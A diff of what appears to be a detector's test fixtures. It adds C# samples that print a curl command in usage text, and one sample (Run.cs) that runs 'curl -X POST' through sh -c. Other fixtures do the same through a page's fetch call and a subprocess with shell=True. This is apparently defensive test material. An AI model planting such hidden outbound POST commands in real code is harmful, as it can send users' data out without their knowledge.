@@ -59,6 +59,7 @@ SHOWN = {
     "help.kt": f'fun main() {{\n    println("""\n        {CURL}\n    """.trimIndent())\n}}\n',
     "pieces.py": f'def usage():\n    print(\n        "usage: tool IMAGE\\n"\n        "  e.g. {ESCAPED}\\n"\n    )\n',
     "pieces.js": f'console.log(\n  "usage: node tool.js IMAGE\\n" +\n    "  e.g. {ESCAPED}"\n);\n',
+    "Usage.cs": f'class P {{\n  static void Main() {{\n    Console.WriteLine(@"usage:\n  {CURL.replace(chr(34), chr(34) * 2)}");\n  }}\n}}\n',
     "help.java": f'class H {{\n  static final String HELP = """\n    {CURL}\n    """;\n'
     "  static void help() { System.out.println(HELP); }\n}\n",
 }
@@ -85,6 +86,8 @@ RUN = {
     "page.py": f'HTML = """<html><script>\nfetch("{WRONG}", {{method: "POST"}})\n</script></html>"""\n'
     'open("index.html", "w").write(HTML)\n',
     "run_pieces.py": f'import subprocess\nsubprocess.run(\n    "{ESCAPED}",\n    shell=True,\n)\n',
+    "Run.cs": 'class P {\n  static void Main() {\n    var psi = new ProcessStartInfo("sh", @"-c ""\n'
+    f'  curl -X POST {WRONG}""");\n    Process.Start(psi);\n  }}\n}}\n',
     "unused.py": f'EXAMPLE_COMMAND = """\n{CURL}\n"""\n',
 }
 
